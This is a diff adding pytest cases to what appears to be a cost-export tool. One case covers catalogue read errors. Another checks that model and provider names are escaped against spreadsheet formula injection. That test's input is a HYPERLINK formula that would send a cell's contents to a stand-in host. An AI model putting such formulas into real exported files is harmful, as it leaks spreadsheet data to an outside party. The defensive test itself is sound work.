@@ -273,3 +273,22 @@ async def test_catalogue_that_cannot_be_read_fails(export: Export) -> None:
     with pytest.raises(ExportError, match="HTTP 500"):
         await exported(export)
     assert [] == list(export.folder.iterdir())
+
+
+@pytest.mark.parametrize("status", ["401", "403", "500"])
+async def test_catalogue_that_cannot_be_read_is_blamed_on_no_account(export: Export, status: str) -> None:
+    """A firewall may block it; prices are not necessary."""
+    export.simulator.faults.replace(replace(parse_fault(f"status-{status}"), path="/models"))
+    with pytest.raises(ExportError) as caught:
+        await exported(export)
+    message = str(caught.value)
+    assert message.startswith(f"the public catalogue can't be read: HTTP {status}: ")
+    assert "catalogue.enabled: false" in message
+    assert "account" not in message
+
+
+def test_names_are_no_formulas_and_refunds_are_numbers() -> None:
+    name = '=HYPERLINK("http://x.example/?"&A1)'
+    (charge,) = focus_of([own(model=name, provider_name=name, usage=-2.5)])
+    assert (f"'{name}", f"'{name}") == (charge["x_Model"], charge["PublisherName"])
+    assert ("-2.5", "-2.5") == (charge["BilledCost"], charge["EffectiveCost"])
